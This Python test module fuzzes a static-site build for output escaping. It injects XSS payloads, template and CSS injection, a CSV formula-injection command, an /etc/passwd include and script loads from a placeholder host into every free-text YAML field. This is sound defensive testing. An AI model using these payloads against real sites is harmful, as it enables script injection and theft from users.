"""Hostile texts and the way to put one into every free text of a library; what must happen then is in the tests."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from itertools import cycle
from pathlib import Path
from typing import Any

import yaml

from build_tools.load import Schema

# What runs calls pwn(), which the tests' browser knows; nothing of the site does.
CALLS = (
    "<script>pwn()</script>", "<ScRiPt>pwn()</sCrIpT>", "<script src=data:,pwn()>", "<img src=x onerror=pwn()>", '"><img src=x onerror=pwn()>',
    "'><svg onload=pwn()>", "<svg onload=pwn()>", "<svg/onload=pwn()>", "<svg><script>pwn()</script>", "<svg><animate onbegin=pwn()>",
    "<svg><a xlink:href='javascript:pwn()'>x", "<math><a href=javascript:pwn()>x", "<body onload=pwn()>", "<a href=javascript:pwn()>x</a>",
    "<a href='java\tscript:pwn()'>x</a>", "<a href=' data:text/html,<script>pwn()</script>'>x", "<iframe srcdoc='<script>pwn()</script>'>",
    "<iframe src=javascript:pwn()>", "<object data=javascript:pwn()>", "<embed src=javascript:pwn()>", "<form action=javascript:pwn()><button>",
    "<input autofocus onfocus=pwn()>", "'onfocus=pwn() autofocus x='", '" onmouseover="pwn()" x="', "` onmouseover=pwn() `", "<details open ontoggle=pwn()>",
    "<video><source onerror=pwn()>", "<audio src=x onerror=pwn()>", "<style onload=pwn()>", "<link rel=stylesheet href=x onerror=pwn()>",
    "<meta http-equiv=refresh content='0;javascript:pwn()'>", "<base href=javascript:pwn()//>", "<template><img onerror=pwn()></template>",
    "<noscript><img title='</noscript><img src=x onerror=pwn()>'>", "</textarea><script>pwn()</script>", "</title><script>pwn()</script>",
    "</script><script>pwn()</script>", "--><script>pwn()</script>", "]]><script>pwn()</script>", "<![CDATA[<script>pwn()</script>]]>",
    '","x":pwn(),"y":"', "');pwn()//", '");pwn()//', "';pwn();'", "${pwn()}", "`${pwn()}`", "\\u003cscript>pwn()", "%3Cscript%3Epwn()%3C/script%3E",
    "javascript:pwn()//", "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==", "vbscript:pwn()", "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;", "&#x3c;img src=x onerror=pwn()&#x3e;", "{{constructor.constructor('pwn()')()}}",
    "[x](javascript:pwn())", "![x](x\"onerror=\"pwn())", "<javascript:pwn()>", "<?php pwn() ?>", "<?xml-stylesheet href='javascript:pwn()'?>",
    "\u2028pwn()//", "\u2029</script><script>pwn()", "\u202e<script>pwn()</script>\u202c", "\u2066<svg onload=pwn()>\u2069", "\ufeff<svg onload=pwn()>",
    "\u200b<svg onload=pwn()>", "＜script＞pwn()＜/script＞", "<script\u3000>pwn()</script>", "<scr<script>ipt>pwn()</script>", "%00<svg onload=pwn()>",
    "\\0<svg onload=pwn()>", "<svg onload=pwn()>" * 9,
)  # fmt: skip
TEXTS = (
    "{{7*7}}", "{{config}}", "{%x%}", "{#x#}", "{{ self.__init__.__globals__ }}", "{% raw %}{{7*7}}", "{0}{title}{x.__class__}", "%s%(x)s",
    "[[x]]", "[[RC-2026-0001]]", "[[N-03|<b>]]", "`x`**x**_x_~~x~~", "# x\n## x", "![x](http://e.invalid/x.png)", "[x]: http://e.invalid/",
    "--8<-- \"/etc/passwd\"", "!!! note", "<!-- x", "--!>", "<b id=pwn>x</b>", "<i class=pwned>x", "</p></article></main>", "</div></div></div>",
    "*{background:url(//e.invalid)}", "</style><style>*{display:none}", "@import'//e.invalid';", "x:expression(pwn())", "}body{display:none",
    "<img src=//e.invalid/x>", "<script src=//e.invalid/x></script>", "<link rel=prefetch href=//e.invalid>", "<iframe src=//e.invalid>",
    '{"@type":"x"}</script>', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "＝1+1", "\u202e\u202e\u2067", "\u0301\u0301\u0301", "\U0001f468\u200d\U0001f469",
    "\\\\", "\\", "'", '"', "<", "&", "&amp;amp;", "null", "undefined", "NaN", "__proto__", "constructor", "toString", "../../x", "//e.invalid/", "#x?y=z",
    "RCFRAMEBODY", "RCFRAMETITLE", "RCFRAMESUMMARY",
)  # fmt: skip
PAYLOADS = (*CALLS, *TEXTS)
ALPHABET = "bcdfghjkmnpqrstvwxyz"
MARK = "ж"  # a letter that stands nowhere in the library, before the number of a place


@dataclass(frozen=True, slots=True)
class Put:
    """A hostile text in its place: which kind of file and field, what was put there."""

    context: str
    payload: str


@dataclass
class Poison:
    """Puts payloads into texts, another one each time, and remembers by mark what it put where."""

    payloads: Iterator[str] = field(default_factory=lambda: cycle(PAYLOADS))
    put: dict[str, Put] = field(default_factory=dict)

    def file(self, path: Path, schema: Schema, keep: frozenset[str] = frozenset()) -> None:
        """Poison every free text of a YAML file; the keys in `keep` stay."""
        data = yaml.load(path.read_text(encoding="utf-8"), yaml.BaseLoader)
        data = self.value(data, schema, schema.document, schema.name, keep)
        path.write_text(
            yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8"
        )

    def value(
        self, value: Any, schema: Schema, node: Any, at: str, keep: frozenset[str] = frozenset()
    ) -> Any:
        """The value with a payload in every text that the schema lets through."""
        node = schema.resolve(node)
        if isinstance(value, Mapping):
            known = node.get("properties", {})
            return {
                k: v if k in keep or k not in known else self.value(v, schema, known[k], f"{at}.{k}", keep)
                for k, v in value.items()
            }
        if isinstance(value, list | tuple):
            return [self.value(v, schema, node["items"], at, keep) for v in value]
        closed = {"pattern", "oneOf", "enum", "const", "x-vocabulary", "x-url", "x-reference"} & set(node)
        if closed or not isinstance(value, str) or not value:
            return value
        return self.text(value, at, node.get("maxLength", 10_000))

    def text(self, value: str, context: str, most: int) -> str:
        """A payload that fits, the mark of the place, and as much of the old text as has room."""
        if most < 12:
            return value
        mark = MARK + _letters(len(self.put))
        payload = next(p for p in self.payloads if len(p) + len(mark) + 1 <= most)
        self.put[mark] = Put(context, payload)
        said = payload + mark
        return said + value if len(said + value) <= most else said


def _letters(number: int) -> str:
    """Four letters for a number, so that it looks like no identifier, amount or telephone."""
    out = ""
    for _ in range(4):
        number, digit = divmod(number, len(ALPHABET))
        out += ALPHABET[digit]
    return out
